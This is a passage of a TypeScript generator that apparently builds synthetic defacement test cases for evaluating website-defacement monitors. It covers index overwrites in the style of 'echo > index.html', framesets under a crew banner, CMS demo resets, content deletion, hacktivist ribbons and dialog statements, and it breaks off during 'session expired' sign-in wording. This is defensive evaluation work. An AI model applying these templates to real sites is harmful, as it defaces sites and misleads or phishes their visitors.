/**
 * Fresh27 defacement classes: written during round 22, by someone who does
 * not read the engines, the way an independent tester would write a
 * balanced evaluation set to score any defacement monitor on the market,
 * in forms that earlier groups did not use. About a third change what a
 * visitor sees: the home page overwritten with a bare line of text, the
 * home page turned into a frameset under the crew's banner, the CMS reset
 * to its demo content, much of the content deleted with nothing added, an
 * old-school recolouring through the body's legacy attributes, a statement
 * in a native open dialog, a corner ribbon, a box that only opens for the
 * intruder's #fragment, a whole defacement document prepended before the
 * doctype, and the injection-test markers intruders leave behind. A third change where the
 * page sends visitors and their data: links to the site's own host on
 * another port, links to the site's own search carrying a reflected
 * payload, documents swapped for double-extension files on the site's own
 * host, sign-in links to phishing pages in public cloud-storage buckets,
 * forms posting to a collector dropped on the site's own host or to a form
 * backend of another account, links that browsers' URL parsing sends to
 * another host, documents replaced by password-protected archives on file
 * hosts, a redirect for a random share of visitors, payment links of
 * another merchant on real processors, and a contact line replaced by a
 * small form. A third change identifiers that never change on an honest
 * page: the phone replaced by a number of another type of the same
 * country, digit groups split into spans with some digits changed, the
 * bank line changed in part (same bank, other account, or the reverse, with
 * valid check digits), the wallet, IBAN or payment handle made a payment
 * link to another account with its text kept, identifiers moved into read-only copy boxes holding
 * other values, social links pointed at accounts known only by numeric id
 * or invite link, a contact line for speakers of another language, a
 * one-character edit, a social widget and a link-in-bio page of look-alike
 * accounts, and the bank line replaced by money-transfer pick-up details.
 * Each differs from every class in defacements.ts, benign.ts and the
 * fresh*-*.ts files of earlier groups (not a re-wording of one) and varies
 * its templates, languages, domains, positions and sizes with the rng.
 * The writer had no internet access: the sources named in the comments
 * (defacement archives such as Zone-H, hosting-security vendors' clean-up
 * write-ups, the HTML and URL standards, phishing and fraud reports) are
 * recalled from memory, with approximate dates, and may be wrong in
 * detail. Scored in the `fresh27` group, never tuned on.
 */
import { type ChangeClass, attrTargets, brandName, elAt, forms, head, inside, lineAfter, occurrences, replaceEverywhere, resolve, say, setAttr, shown, siteOr, textRuns, top, trimmed } from "./classes.js"
import { type Page, makeBank, makeWallet, registrable } from "./corpus.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, groupIban, iban, locales, makePhone, swapPhone } from "./locales.js"
import type { El, Range, TextRun } from "./locate.js"
import { type Rng, alnum, between, chance, digits, hex, pick, sample, shuffle, upper } from "./rng.js"
import { boast, brandLookalike, contactLine, greetz, nick, political, randomDomain, signature, slug, team } from "./words.js"

const fresh27 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh27", make })
const fresh27Whole = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh27", wholePage: true, make })

type T<A> = Record<Lang, A>
const allLangs: ReadonlyArray<Lang> = ["en", "fr", "de", "es", "nl", "pt", "it"]
const lang = (page: Page): Lang => page.site.locale.lang
const tld = (rng: Rng) => pick(rng, ["com", "net", "top", "xyz", "site", "online", "shop", "info", "live", "pro", "org", "cc", "io", "biz", "link", "cfd", "sbs", "icu", "click"])
const bare = (page: Page) => page.site.brand.replace(/[^a-z0-9]/gi, "").toLowerCase() || "site"
const origin = (page: Page) => new URL(page.site.url).origin
/** A host the intruder runs: random, a look-alike of the site, or the site's name with a service word. */
const evilHost = (rng: Rng, page: Page) =>
  pick(rng, [
    () => randomDomain(rng),
    () => brandLookalike(rng, page.site.brand),
    () => `${pick(rng, ["secure", "portal", "account", "my", "client", "login", "verify", "online"])}-${bare(page)}.${tld(rng)}`
  ])()
const freeMail = (rng: Rng) => pick(rng, ["gmail.com", "outlook.com", "hotmail.com", "yahoo.com", "proton.me", "gmx.net", "mail.com", "aol.com", "yandex.com", "zoho.com"])
const spot = (rng: Rng, page: Page) => pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots), slotAt(page.spots, "bottom")])
const scriptSpot = (rng: Rng, page: Page) => pick(rng, [head(page), head(page), top(page), page.spots.bodyClose, slotAt(page.spots, "middle")])
const js = (s: string) => JSON.stringify(s).replace(/</g, "\\u003c")
/** The language an intruder writes in on this page: the site's most of the time, else English (picked once per change). */
const writeIn = (rng: Rng, page: Page): Lang => (chance(rng, 0.7) ? lang(page) : "en")
/** A slug of `s` without its accents. */
const plainSlug = (s: string) => slug(s.normalize("NFD").replace(/[\u0300-\u036f]/g, ""))

const searchy = (f: El) => /search|recherche|suche|buscar|zoeken|cerca/i.test(f.attribs.action ?? "") || /search/i.test(f.attribs.role ?? "") || /search/i.test(f.attribs.class ?? "")
/** The site's shown forms that take input (not its search box) when it has any, else all of them. */
const inputForms = (page: Page): Array<El> => {
  const all = forms(page)
  const kept = all.filter((f) => !searchy(f))
  return kept.length > 0 ? kept : all
}
/** Shown links with an address (not a fragment or javascript:). */
const links = (page: Page): Array<El> => shown(page, "a", (e) => !e.inert && (e.attribs.href ?? "").trim() !== "" && !/^\s*(#|javascript:)/i.test(e.attribs.href ?? ""))
const isOwn = (page: Page, href: string): boolean => {
  const u = resolve(page, href)
  return u !== null && registrable(u.hostname.toLowerCase()) === page.site.domain
}
/** Shown links to the site's own pages. */
const ownLinks = (page: Page): Array<El> => links(page).filter((a) => !/^\s*(mailto|tel|sms):/i.test(a.attribs.href ?? "") && isOwn(page, a.attribs.href ?? ""))
const textOf = (page: Page, el: El): string =>
  el.closeTag === null ? "" : page.spots.texts.filter((t) => t.start >= el.openEnd && t.end <= el.closeTag!.start).map((t) => t.text).join(" ").replace(/\s+/g, " ").trim()
const accountRe = /(log-?in|sign-?in|signin|account|member|client|customer|portal|secure|pay|checkout|donat|billing|webmail|auth|register|subscri|cart|basket|order|book|contact|kontakt|connexion|anmeld|acceder|acesso|accedi|inloggen|compte|konto|cuenta|conta)/i
/** The links among `els` that lead to sign-in, account, payment or contact pages (by address or text). */
const keyLinks = (page: Page, els: ReadonlyArray<El>): Array<El> => els.filter((a) => accountRe.test(a.attribs.href ?? "") || accountRe.test(textOf(page, a)))
/** Whether `r` lies inside one visible text run (not in an attribute). */
const inText = (page: Page, r: Range): boolean => page.spots.texts.some((t) => r.start >= t.start && r.end <= t.end)
const textOccurrences = (page: Page, value: string): Array<Range> => occurrences(page, value).filter((r) => inText(page, r))
const runAt = (page: Page, r: Range): TextRun | undefined => page.spots.texts.find((t) => r.start >= t.start && r.end <= t.end)
/** The nearest enclosing element of `t` named by `re`. */
const under = (page: Page, t: TextRun, re: RegExp): El | null => {
  for (let e = elAt(page, t.parent); e !== undefined; e = elAt(page, e.parent)) if (re.test(e.name)) return e
  return null
}
/** The line (p, li, dd, td) whose text holds `needle`. */
const lineOf = (page: Page, needle: string): El | null => {
  const run = page.spots.texts.find((t) => t.text.includes(needle))
  if (run === undefined) return null
  const el = under(page, run, /^(p|li|dd|td)$/)
  return el !== null && el.closeTag !== null ? el : null
}
/** A line beside the site's contact lines, or a paragraph near the bottom; a block (form, div) goes unwrapped after a paragraph line. */
const besideContact = (rng: Rng, page: Page, html: string): Splice => {
  const line = lineAfter(page, page.ids.email) ?? lineAfter(page, page.ids.phone.intl) ?? lineAfter(page, page.ids.phone.national)
  const block = /^<(form|div|section)\b/.test(html)
  if (line === null) return insert(pick(rng, [slotAt(page.spots, "bottom"), page.spots.bodyClose]), block ? html : `<p>${html}</p>`)
  return insert(line.at, block && line.wrap("") === "<p></p>" ? html : line.wrap(html))
}
const rawIn = (page: Page, r: Range): boolean => page.spots.raw.some((x) => x.start < r.end && x.end > r.start)
const charsIn = (page: Page, r: Range): number => page.spots.texts.filter((t) => t.start >= r.start && t.end <= r.end).reduce((n, t) => n + t.text.trim().length, 0)
/** Redraws every digit of `s` (letters and separators kept), never returning `s` itself. */
const redigit = (rng: Rng, s: string): string => {
  if (!/\d/.test(s)) return s
  for (;;) {
    const out = s.replace(/\d/g, () => digits(rng, 1))
    if (out !== s) return out
  }
}
/** A handle one small edit away from `h` (a letter doubled or dropped, a suffix, a look-alike letter). */
const typoHandle = (rng: Rng, h: string): string => {
  const s = h.length < 3 ? `${h}${pick(rng, ["_", "hq", "1"])}` : h
  const i = between(rng, 1, s.length - 2)
  const out = pick(rng, [
    () => s.slice(0, i) + s[i] + s.slice(i),
    () => s.slice(0, i) + s.slice(i + 1),
    () => `${s}${pick(rng, ["_", ".", "_official", "official", "hq", "_help", "team", "_", "1"])}`,
    () => s.replace(/o/, "0").replace(/l(?!.*l)/, "I"),
    () => `${pick(rng, ["the", "real", "its"])}${s}`
  ])()
  return out === h ? `${h}_` : out
}

// ———————————————————————————— what a visitor sees ————————————————————————————

const closedWords: T<ReadonlyArray<string>> = {
  en: ["This website has been shut down.", "Site closed. Do not contact us any more.", "Nothing to see here.", "We are no longer in business.", "This domain is no longer maintained."],
  fr: ["Ce site a été fermé.", "Site fermé. Merci de ne plus nous contacter.", "Il n'y a plus rien à voir ici.", "Nous avons cessé notre activité."],
  de: ["Diese Website wurde abgeschaltet.", "Seite geschlossen. Bitte kontaktieren Sie uns nicht mehr.", "Hier gibt es nichts mehr zu sehen.", "Wir haben den Betrieb eingestellt."],
  es: ["Este sitio web ha sido cerrado.", "Sitio cerrado. No nos contacte más.", "Aquí ya no hay nada que ver.", "Hemos cesado nuestra actividad."],
  nl: ["Deze website is offline gehaald.", "Site gesloten. Neem geen contact meer op.", "Hier valt niets meer te zien.", "Wij zijn gestopt met onze activiteiten."],
  pt: ["Este site foi desativado.", "Site fechado. Não entre mais em contato.", "Não há mais nada para ver aqui.", "Encerramos nossas atividades."],
  it: ["Questo sito è stato chiuso.", "Sito chiuso. Non contattateci più.", "Non c'è più niente da vedere qui.", "Abbiamo cessato l'attività."]
}
/** Statements with no stock hacker words: an insider's or activist's accusation, or an appeal. */
const statements: T<ReadonlyArray<string>> = {
  en: ["This organisation has been lying to you. Ask them what really happened to your data.", "We asked for an answer for months. No one replied. Now everyone can read this.", "Stop the war. Every day of silence costs lives."],
  fr: ["Cette organisation vous ment. Demandez-lui ce qu'il est vraiment advenu de vos données.", "Nous avons demandé une réponse pendant des mois. Personne n'a répondu. Désormais, tout le monde peut lire ceci.", "Arrêtez la guerre. Chaque jour de silence coûte des vies."],
  de: ["Diese Organisation belügt Sie. Fragen Sie, was wirklich mit Ihren Daten geschehen ist.", "Monatelang haben wir um eine Antwort gebeten. Niemand hat reagiert. Jetzt kann es jeder lesen.", "Beendet den Krieg. Jeder Tag des Schweigens kostet Leben."],
  es: ["Esta organización les está mintiendo. Pregúntenle qué pasó realmente con sus datos.", "Pedimos una respuesta durante meses. Nadie contestó. Ahora todo el mundo puede leer esto.", "Paren la guerra. Cada día de silencio cuesta vidas."],
  nl: ["Deze organisatie liegt tegen u. Vraag wat er echt met uw gegevens is gebeurd.", "We hebben maandenlang om een antwoord gevraagd. Niemand reageerde. Nu kan iedereen dit lezen.", "Stop de oorlog. Elke dag stilte kost levens."],
  pt: ["Esta organização está mentindo para você. Pergunte o que realmente aconteceu com os seus dados.", "Pedimos uma resposta durante meses. Ninguém respondeu. Agora todos podem ler isto.", "Parem a guerra. Cada dia de silêncio custa vidas."],
  it: ["Questa organizzazione vi sta mentendo. Chiedete cosa è successo davvero ai vostri dati.", "Abbiamo chiesto una risposta per mesi. Nessuno ha risposto. Ora tutti possono leggere questo.", "Fermate la guerra. Ogni giorno di silenzio costa vite."]
}
/** A message of either kind: a signature, a boast, a slogan, or a statement without hacker words. */
const anyMessage = (rng: Rng, page: Page, who: string): string =>
  pick(rng, [() => signature(rng, who).text, () => boast(rng).text, () => political(rng).text, () => pick(rng, siteOr(rng, page, statements)), () => pick(rng, siteOr(rng, page, statements))])()

// Overwrites with a shell one-liner, recalled from memory of Zone-H and Zone-XSEC mirrors of mass defacements (2000s to the 2020s) in which the index file was replaced by the output of an `echo "…" > index.html`: a line or a few lines of text behind a single bare tag (a <title>, an <h1>, a <pre> or a <center>), with no html, head or body elements and no styles, signed or not, sometimes a bare nickname or "test", sometimes an unsigned "site closed" line in the site's language.
const plainTextOverwrite = fresh27Whole("home page overwritten by a shell one-liner ('echo … > index.html'): a few lines of text behind one bare tag (<title>, <h1>, <pre>, <center>), no html, head or body, signed or not", (page, rng) => {
  const who = nick(rng)
  const nl = chance(rng, 0.8) ? "\n" : "\r\n"
  const lines = pick(rng, [
    () => [signature(rng, who).text, "", boast(rng).text, contactLine(rng, who).replace(/<br>/g, nl)],
    () => [pick(rng, siteOr(rng, page, closedWords))],
    () => [political(rng).text, "", `— ${pick(rng, [who, team(rng)])}`],
    () => [pick(rng, [who, `${who} was here`, "owned", "hi admin", "test", team(rng), "¯\\_(ツ)_/¯", `${who} ${digits(rng, 4)}`])],
    () => {
      const l = writeIn(rng, page)
      return [pick(rng, statements[l]), chance(rng, 0.5) ? pick(rng, closedWords[l]) : ""]
    },
    () => [`${signature(rng, who).text}${pick(rng, [" :)", " ;)", "", " !!!"])}`, greetz(rng)]
  ])().filter((x, i, a) => x !== "" || (i > 0 && i < a.length - 1))
  const [first, ...rest] = lines.map(esc) as [string, ...Array<string>]
  const tail = rest.length === 0 ? "" : nl + rest.join(nl)
  const html = pick(rng, [
    () => `<title>${first}</title>${nl}${first}${tail}`,
    () => `<h1>${first}</h1>${tail}`,
    () => `<pre>${first}${tail}</pre>`,
    () => `<center>${first}${tail.replace(/\r?\n/g, "<br>$&")}</center>`,
    () => `<title>${esc(signature(rng, who).text)}</title>${nl}${first}${tail}`
  ])()
  return { html: html + (chance(rng, 0.6) ? nl : "") }
})

// Framed home pages, recalled from memory of early-2000s defacements archived by Zone-H and Attrition.org (and of later clean-up cases) in which the intruder renamed the real index file and served a frameset in its place: a frame with the crew's banner or statement above or beside the site's own page, now loaded from its backup name, so the site still seems to work under the message.
const framedBehindBanner = fresh27Whole("home page replaced by a frameset: a frame with the crew's banner or statement above (or beside) the site's own page, now loaded from a backup file name", (page, rng) => {
  const who = nick(rng)
  const l = writeIn(rng, page)
  const hacker = chance(rng, 0.6)
  const line = hacker ? signature(rng, who).text : pick(rng, statements[l])
  const sub = hacker ? pick(rng, [() => boast(rng).text, () => greetz(rng), () => contactLine(rng, who).replace(/<br>/g, " · ")])() : ""
  const bannerDoc = `<body style="margin:0;background:${pick(rng, ["#000", "#111", "#8b0000", "#fff"])};color:${pick(rng, ["#0f0", "#fff", "#f00", "#000"])};font:bold ${between(rng, 16, 26)}px ${pick(rng, ["Arial", "Courier New", "Verdana"])};text-align:center"><p>${esc(line)}</p>${sub === "" ? "" : `<small>${esc(sub)}</small>`}</body>`
  const banner = pick(rng, [
    () => `data:text/html;charset=utf-8,${encodeURIComponent(bannerDoc)}`,
    () => `/${plainSlug(who) || "x"}.html`,
    () => `https://${randomDomain(rng)}/${pick(rng, ["banner", "top", "b", "index"])}.html`
  ])()
  const path = new URL(page.site.url).pathname
  const backup = pick(rng, ["/index_old.html", "/index2.html", "/home_old.php", "/old/index.php", "/index.php.orig", `${path}?${alnum(rng, 4)}=1`])
  const t = page.spots.title
  const siteTitle = t === null ? "" : page.html.slice(t.start, t.end).trim()
  const title = chance(rng, 0.5) && siteTitle !== "" ? siteTitle : esc(line)
  const size = between(rng, 60, 160)
  const split = chance(rng, 0.8) ? `rows="${size},*"` : `cols="${size * 2},*"`
  return { html: `<html><head><title>${title}</title></head><frameset ${split} frameborder="0" border="0" framespacing="0"><frame src="${esc(banner)}" name="${pick(rng, ["top", "banner", "msg"])}" scrolling="no" noresize><frame src="${esc(backup)}" name="main"><noframes><body><p>${esc(line)}</p></body></noframes></frameset></html>` }
})

const pad = (n: number) => String(n).padStart(2, "0")

interface Demo {
  readonly title: string
  readonly heads: ReadonlyArray<string>
  readonly paras: ReadonlyArray<string>
}
const wpDemo: T<Demo> = {
  en: { title: "My WordPress Website", heads: ["Hello world!", "Sample Page", "Uncategorized", "Recent Comments"], paras: ["Welcome to WordPress. This is your first post. Edit or delete it, then start writing!", "This is an example page. It's different from a blog post because it will stay in one place and will show up in your site navigation (in most themes).", "Hi, this is a comment. To get started with moderating, editing, and deleting comments, please visit the Comments screen in the dashboard.", "A WordPress Commenter on Hello world!", "Just another WordPress site"] },
  fr: { title: "Mon site WordPress", heads: ["Bonjour tout le monde !", "Page d'exemple", "Non classé", "Commentaires récents"], paras: ["Bienvenue sur WordPress. Ceci est votre premier article. Modifiez-le ou supprimez-le, puis commencez à écrire !", "Ceci est une page d'exemple. C'est différent d'un article de blog parce qu'elle restera au même endroit et apparaîtra dans la navigation de votre site (dans la plupart des thèmes).", "Bonjour, ceci est un commentaire. Pour débuter avec la modération, la modification et la suppression de commentaires, veuillez visiter l'écran des Commentaires dans le Tableau de bord.", "Un commentateur WordPress sur Bonjour tout le monde !", "Un site utilisant WordPress"] },
  de: { title: "Meine WordPress-Website", heads: ["Hallo Welt!", "Beispiel-Seite", "Allgemein", "Neueste Kommentare"], paras: ["Willkommen bei WordPress. Dies ist dein erster Beitrag. Bearbeite oder lösche ihn und beginne mit dem Schreiben!", "Dies ist eine Beispiel-Seite. Sie unterscheidet sich von Beiträgen, da sie stets an derselben Stelle bleibt und bei den meisten Themes in der Website-Navigation angezeigt wird.", "Hallo, dies ist ein Kommentar. Um mit dem Freischalten, Bearbeiten und Löschen von Kommentaren zu beginnen, besuche bitte die Kommentare-Ansicht im Dashboard.", "Ein WordPress-Kommentator bei Hallo Welt!", "Eine weitere WordPress-Website"] },
  es: { title: "Mi sitio WordPress", heads: ["¡Hola, mundo!", "Página de ejemplo", "Sin categoría", "Comentarios recientes"], paras: ["Bienvenido a WordPress. Esta es tu primera entrada. Edítala o bórrala, ¡luego empieza a escribir!", "Esta es una página de ejemplo. Es diferente a una entrada del blog porque permanecerá en un solo lugar y aparecerá en la navegación de tu sitio (en la mayoría de los temas).", "Hola, esto es un comentario. Para empezar a moderar, editar y borrar comentarios, por favor, visita en el escritorio la pantalla de comentarios.", "Un comentarista de WordPress en ¡Hola, mundo!", "Otro sitio realizado con WordPress"] },
  nl: { title: "Mijn WordPress website", heads: ["Hallo wereld!", "Voorbeeld pagina", "Geen categorie", "Recente reacties"], paras: ["Welkom bij WordPress. Dit is je eerste bericht. Bewerk of verwijder het, start dan met schrijven!", "Dit is een voorbeeldpagina. Het is anders dan een blogbericht omdat het op één plek blijft en in je sitenavigatie verschijnt (in de meeste thema's).", "Hoi, dit is een reactie. Om te beginnen met modereren, bewerken en verwijderen van reacties, ga je naar het Reacties-scherm in het dashboard.", "Een WordPress commentator op Hallo wereld!", "Zomaar weer een WordPress website"] },
  pt: { title: "Meu site WordPress", heads: ["Olá, mundo!", "Página de exemplo", "Sem categoria", "Comentários recentes"], paras: ["Boas-vindas ao WordPress. Esse é o seu primeiro post. Edite-o ou exclua-o, e então comece a escrever!", "Esta é uma página de exemplo. É diferente de um post no blog porque ela permanecerá em um lugar e aparecerá na navegação do seu site (na maioria dos temas).", "Olá, isso é um comentário. Para começar a moderar, editar e excluir comentários, visite a tela de Comentários no painel.", "Um comentarista do WordPress em Olá, mundo!", "Só mais um site WordPress"] },
  it: { title: "Il mio sito WordPress", heads: ["Ciao mondo!", "Pagina d'esempio", "Senza categoria", "Commenti recenti"], paras: ["Benvenuto in WordPress. Questo è il tuo primo articolo. Modificalo o eliminalo e inizia a creare il tuo blog!", "Questa è una pagina di esempio. È diversa da un articolo di blog perché resterà sempre nello stesso posto e verrà mostrata nel menu di navigazione del sito (nella maggior parte dei temi).", "Ciao, questo è un commento. Per iniziare a moderare, modificare ed eliminare commenti, visita la schermata Commenti nella bacheca.", "Un commentatore di WordPress su Ciao mondo!", "Un nuovo sito targato WordPress"] }
}
const lorem = [
  "Lorem ipsum dolor sit amet, consectetur adipiscing elit.", "Sed do eiusmod tempor incididunt ut labore et dolore magna aliqua.",
  "Ut enim ad minim veniam, quis nostrud exercitation ullamco laboris nisi ut aliquip ex ea commodo consequat.",
  "Duis aute irure dolor in reprehenderit in voluptate velit esse cillum dolore eu fugiat nulla pariatur.",
  "Excepteur sint occaecat cupidatat non proident, sunt in culpa qui officia deserunt mollit anim id est laborum."
]
const themeDemo: Demo = { title: "Your Site Title", heads: ["Welcome to Our Website", "Section Title", "Our Services", "Latest News"], paras: lorem }
const drupalDemo: Demo = { title: "Welcome! | Drupal", heads: ["Welcome!", "No front page content has been created yet."], paras: ["No front page content has been created yet.", "Follow the User Guide to start building your site.", "Powered by Drupal"] }
const joomlaDemo: Demo = { title: "Home", heads: ["Congratulations! You have a Joomla! site.", "Welcome to your blog"], paras: ["Joomla! makes it easy to build a website just the way you want it and keep it simple to update and maintain.", "This is a sample blog posting.", "Powered by Joomla!"] }

// CMS reinstalls, recalled from memory of Wordfence's and Sucuri's write-ups on arbitrary file-deletion bugs in WordPress plugins (about 2018–2023: deleting wp-config.php sends the site to its installer, which the intruder completes with a database of their own) and of abandoned Duplicator or installer scripts left on servers: the pages come back with the CMS's demo content, "Hello world!", "Sample Page" and the default tagline in the site's language (or a theme's lorem ipsum), around the site's own layout.
const cmsDemoReset = fresh27("site's headings and paragraphs replaced in place by a CMS's demo content after a forced reinstall ('Hello world!', 'Sample Page', the default tagline in the site's language, or a theme's lorem ipsum)", (page, rng) => {
  const r = rng()
  const demo = r < 0.6 ? wpDemo[lang(page)] : r < 0.8 ? themeDemo : r < 0.9 ? drupalDemo : joomlaDemo
  const heads = textRuns(page, 3).filter((t) => under(page, t, /^h[1-3]$/) !== null)
  const paras = textRuns(page, 25).filter((t) => under(page, t, /^(p|li|td|dd|blockquote)$/) !== null && under(page, t, /^h[1-6]$/) === null)
  const nh = heads.length === 0 ? 0 : between(rng, 1, Math.min(heads.length, 3))
  const np = paras.length === 0 ? 0 : Math.min(paras.length, pick(rng, [1, 2, 4, 8, 16, 40]))
  const out: Array<Splice> = []
  heads.slice(0, nh).forEach((t, i) => out.push(replace(trimmed(page, t), esc(demo.heads[i % demo.heads.length]!))))
  sample(rng, paras, np).forEach((t, i) => out.push(replace(trimmed(page, t), esc(demo.paras[i % demo.paras.length]!))))
  if (out.length === 0) textRuns(page, 8).slice(0, 3).forEach((t, i) => out.push(replace(trimmed(page, t), esc(demo.paras[i % demo.paras.length]!))))
  const title = page.spots.title
  if (title !== null && chance(rng, 0.7)) out.push(replace(title, esc(chance(rng, 0.5) ? demo.title : `${demo.heads[0]} – ${demo.title}`)))
  return { splices: out }
})

// Destructive edits, recalled from memory of incident reports on wiper-style vandalism of small organisations' sites (a disgruntled former contractor or an intruder with the CMS password deleting content blocks, about 2015–2024) and of defacement-archive entries marked as "content removed": blocks of the page (sections, articles, lists, tables) deleted from the markup, from a tenth to most of its text, with nothing added; the header, navigation and footer are left in place.
const contentDeleted = fresh27("blocks of the site's content (sections, articles, lists, tables) deleted from the markup, from a tenth to most of its text, nothing added, header and footer left", (page, rng) => {
  const total = Math.max(1, charsIn(page, { start: 0, end: page.html.length }))
  const goal = total * pick(rng, [0.1, 0.25, 0.45, 0.65, 0.85])
  const cands = page.spots.elements.filter((e) => e.shown && !e.inert && e.closeTag !== null && /^(div|section|article|aside|main|p|ul|ol|dl|table|figure|blockquote|form|h2|h3|h4)$/.test(e.name) && !inside(page, e, "header") && !inside(page, e, "nav") && !inside(page, e, "footer"))
  const sized = cands.map((e) => ({ r: { start: e.start, end: e.closeTag!.end }, n: charsIn(page, { start: e.start, end: e.closeTag!.end }) })).filter((c) => c.n > 0 && !rawIn(page, c.r))
  const order = chance(rng, 0.5) ? [...sized].sort((a, b) => b.n - a.n) : shuffle(rng, sized)
  const taken: Array<Range> = []
  let got = 0
  for (const c of order) {
    if (got >= goal) break
    if (taken.some((t) => c.r.start < t.end && c.r.end > t.start)) continue
    taken.push(c.r)
    got += c.n
  }
  if (taken.length === 0) return splices(...textRuns(page, 3).slice(0, 5).map((t) => replace(trimmed(page, t), "")))
  return { splices: taken.map((r) => replace(r, "")) }
})

// Old-school recolouring, recalled from memory of early Zone-H and Attrition.org mirrors (about 1999–2010) whose defacements were written with the body's presentational attributes (bgcolor, background, text, link) rather than style sheets: a tiled picture from another host behind the page and the text and link colours flipped, with no words added.
const legacyBodyAttributes = fresh27("page recoloured through the body's legacy attributes (a tiled picture from another host as background, bgcolor, text and link colours), no words added", (page, rng) => {
  const img = pick(rng, [
    () => `https://i.imgur.com/${alnum(rng, 7)}.${pick(rng, ["gif", "jpg", "png"])}`,
    () => `https://i.ibb.co/${alnum(rng, 7)}/${pick(rng, ["bg", "flag", "skull", "logo", "wall"])}.${pick(rng, ["gif", "jpg"])}`,
    () => `https://files.catbox.moe/${alnum(rng, 6)}.gif`,
    () => `https://i.postimg.cc/${alnum(rng, 8)}/${pick(rng, ["bg", "team", "x"])}.png`,
    () => `http://${randomDomain(rng)}/${pick(rng, ["bg", "images/bg", "img/wall"])}.${pick(rng, ["gif", "jpg"])}`
  ])()
  const [bg, text, link] = pick(rng, [["#000000", "#00FF00", "#FF0000"], ["black", "lime", "red"], ["#000", "white", "yellow"], ["#111111", "#FF0000", "#FFFFFF"], ["#000000", "#00FFFF", "#FF00FF"]] as const)
  const attrs: Array<readonly [string, string]> = [["bgcolor", bg], ["text", text]]
  if (chance(rng, 0.85)) attrs.push(["background", img])
  if (chance(rng, 0.7)) attrs.push(["link", link], ["vlink", link])
  if (chance(rng, 0.3)) attrs.push(["alink", text])
  if (chance(rng, 0.3)) attrs.push(["style", `background:${bg} url(${img});color:${text}`])
  const body = page.spots.elements.find((e) => e.name === "body")
  if (body === undefined) return splices(insert(top(page), `<table width="100%" ${attrs.map(([k, v]) => `${k}="${esc(v)}"`).join(" ")}><tr><td>&nbsp;</td></tr></table>`))
  return { splices: attrs.map(([k, v]) => setAttr(page, body, k, v)) }
})

const okWords: T<string> = { en: "OK", fr: "OK", de: "OK", es: "Aceptar", nl: "OK", pt: "OK", it: "OK" }

// Native dialogs, recalled from memory of the HTML standard's dialog element (the open attribute shows it without script, form method="dialog" closes it) and of defacements since about 2022 that used it instead of a styled overlay: a statement in a browser-drawn box over the page, in the site's language or another, with or without hacker words, no script and often no styles.
const openDialog = fresh27("statement in a native <dialog open> box drawn over the page by the browser (closed by a method='dialog' button), no script and often no styles", (page, rng) => {
  const who = nick(rng)
  const text = anyMessage(rng, page, who)
  const sig = chance(rng, 0.4) ? `<p>— ${esc(pick(rng, [who, team(rng)]))}</p>` : ""
  const style = pick(rng, ["", "", ` style="max-width:${between(rng, 24, 40)}em;border:${between(rng, 1, 4)}px solid #000;padding:1em"`, ` style="font:${between(rng, 16, 28)}px/1.4 Georgia,serif;text-align:center"`])
  const html = `<dialog open${style}${chance(rng, 0.3) ? ` id="${pick(rng, ["msg", "notice", "d", "m"])}${alnum(rng, 3)}"` : ""}><p>${esc(text)}</p>${sig}<form method="dialog"><button>${esc(okWords[writeIn(rng, page)])}</button></form></dialog>`
  return splices(insert(spot(rng, page), html))
})

const ribbonWords: T<ReadonlyArray<string>> = {
  en: ["Stop the war", "Free them all", "Not for sale", "Shame on you"], fr: ["Non à la guerre", "Libérez-les", "Pas à vendre", "Honte à vous"],
  de: ["Nein zum Krieg", "Freiheit für alle", "Nicht käuflich", "Schämt euch"], es: ["No a la guerra", "Libertad ya", "No se vende", "Qué vergüenza"],
  nl: ["Nee tegen oorlog", "Laat ze vrij", "Niet te koop", "Schaam je"], pt: ["Não à guerra", "Liberdade já", "Não está à venda", "Que vergonha"],
  it: ["No alla guerra", "Liberi tutti", "Non in vendita", "Vergogna"]
}

// Corner ribbons, recalled from memory of the "Fork me on GitHub" ribbon pattern (about 2008 on) and of small hacktivist defacements that left the page intact and pinned a diagonal band in a corner: a slogan in the site's language or another, a hashtag, or the crew's tag, sometimes linking to its channel.
const cornerRibbon = fresh27("diagonal ribbon pinned in a corner of the window (like 'Fork me on GitHub') with a slogan, hashtag or the crew's tag, the page otherwise untouched", (page, rng) => {
  const who = nick(rng)
  const text = pick(rng, [
    () => pick(rng, siteOr(rng, page, ribbonWords)),
    () => `#${pick(rng, ["OpIsrael", "OpIndia", "OpFrance", "OpSweden", "OpDenmark", "OpRussia", "OpIran", "FreeKashmir", "FreeUyghurs", "SaveGaza", "StopWar"])}`,
    () => `Hacked by ${who}`,
    () => team(rng),
    () => who
  ])()
  const right = chance(rng, 0.7)
  const vertical = chance(rng, 0.75) ? `top:${between(rng, 24, 44)}px` : `bottom:${between(rng, 24, 44)}px`
  const w = between(rng, 200, 280)
  const bg = pick(rng, ["#c00", "#111", "#006400", "#0057b7", "#e30a17", "#000"])
  const inner = chance(rng, 0.4) ? `<a href="https://t.me/${esc(who.replace(/[^A-Za-z0-9_]/g, "").toLowerCase() || "channel" + digits(rng, 3))}" style="color:#fff;text-decoration:none">${esc(text)}</a>` : esc(text)
  const angle = (right ? 45 : -45) * (vertical.startsWith("bottom") ? -1 : 1)
  const html = `<div style="position:fixed;${vertical};${right ? "right" : "left"}:-${Math.round(w / 4)}px;width:${w}px;transform:rotate(${angle}deg);background:${bg};color:#fff;text-align:center;font:bold ${between(rng, 12, 15)}px/${between(rng, 28, 34)}px Arial,sans-serif;z-index:${pick(rng, ["9999", "99999", "2147483647"])};box-shadow:0 0 4px rgba(0,0,0,.4)">${inner}</div>`
  return splices(insert(pick(rng, [top(page), page.spots.bodyClose, slotAt(page.spots, "top")]), html))
})

const sessionWords: T<{ readonly head: string; readonly body: string; readonly user: string; readonly pass: string; readonly button: string }> = {
  en: { head: "Your session has expired", body: "For your security, please sign in again to continue.", user: "E-mail address", pass: "Password", button: "Sign in" },
  fr: { head: "Votre session a expiré", body: "Pour votre sécurité, veuillez vous reconnecter pour continuer.", user: "Adresse e-mail", pass: "Mot de passe", button: "Se connecter" },
